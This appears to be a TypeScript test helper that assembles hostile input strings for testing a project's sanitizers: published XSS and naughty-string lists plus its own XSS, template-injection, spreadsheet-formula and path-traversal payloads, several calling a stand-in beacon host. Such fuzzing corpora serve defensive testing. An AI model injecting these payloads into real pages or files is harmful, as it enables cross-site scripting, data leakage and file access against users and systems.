/** Strings that have broken real programs: a corpus outside the project if there is one, and always our own. */
import { existsSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { HOSTILE_TEXTS } from '../packages/core/src/testing/fiction/hostile-text.ts';

/** Published lists, kept outside the project: `blns.json`, `sanitizer-payloads.json`, `xss.txt`. */
const CORPUS = resolve(import.meta.dirname, '../../shared/data/hostile');

/** Address that an active payload would report to. */
export const BEACON = 'http://beacon.prevent.invalid';

export function corpus(): readonly string[] | undefined {
  const read = (name: string): string => readFileSync(join(CORPUS, name), 'utf8');
  if (
    !['blns.json', 'sanitizer-payloads.json', 'xss.txt'].every((name) =>
      existsSync(join(CORPUS, name)),
    )
  )
    return undefined;
  const all = [
    ...(JSON.parse(read('blns.json')) as readonly string[]),
    ...(JSON.parse(read('sanitizer-payloads.json')) as readonly string[]),
    ...read('xss.txt').split('\n'),
  ];
  // A blank text is not a value, and a lone surrogate cannot be stored as UTF-8.
  return [...new Set(all)].filter((text) => text.trim() !== '' && text.isWellFormed());
}

/** Each payload of ours in each surrounding that it may have to break out of. */
export function ours(): readonly string[] {
  const script = `globalThis.cameAlive=1;fetch('${BEACON}/s')`;
  const payloads = [
    `<script>${script}</script>`,
    `<img src=x onerror="${script}">`,
    `<img src="${BEACON}/i.png">`,
    `<svg onload="${script}"></svg>`,
    `<svg><style><img src=x onerror="${script}"></style></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${script}"></style></mglyph></table></mtext></math>`,
    `<iframe srcdoc="<script>${script}</script>"></iframe>`,
    `<iframe src="javascript:${script}"></iframe>`,
    `<details open ontoggle="${script}">x</details>`,
    `<input autofocus onfocus="${script}">`,
    `<style>@import "${BEACON}/c.css"; body { background: url(${BEACON}/b.png) }</style>`,
    `<link rel=stylesheet href="${BEACON}/l.css">`,
    `<meta http-equiv=refresh content="0;url=${BEACON}/m">`,
    `<object data="${BEACON}/o"></object>`,
    `<base href="${BEACON}/">`,
    `<form action="${BEACON}/f"><button autofocus>x</button></form>`,
    `<a href="javascript:${script}">x</a>`,
    `<form><input name=attributes><input name=children></form>`,
    `![x](${BEACON}/md.png)`,
    `[x](javascript:${script})`,
    `<javascript:${script}>`,
    `:value[subject.name] ::table{of=onlineIdentifiers columns="asSeen"}`,
    `{{constructor.constructor('${script}')()}} \${${script}}`,
    `=HYPERLINK("${BEACON}/h","x")`,
    `=WEBSERVICE("${BEACON}/w")`,
  ];
  const surroundings = [
    '',
    '">',
    "'>",
    '-->',
    '</title>',
    '</textarea>',
    '</script>',
    ']]>',
    '\u202E',
  ];
  return [
    ...HOSTILE_TEXTS,
    ...surroundings.flatMap((before) => payloads.map((payload) => before + payload)),
    ...[
      '\u0000',
      'a\u0000b',
      '%00',
      '..\\..\\x',
      '../../etc/passwd',
      'CON',
      'x'.repeat(499),
      'Z\u0335\u0321a\u0337l\u0338g\u0334o\u0336',
      '\u2028line\u2029',
    ],
  ];
}
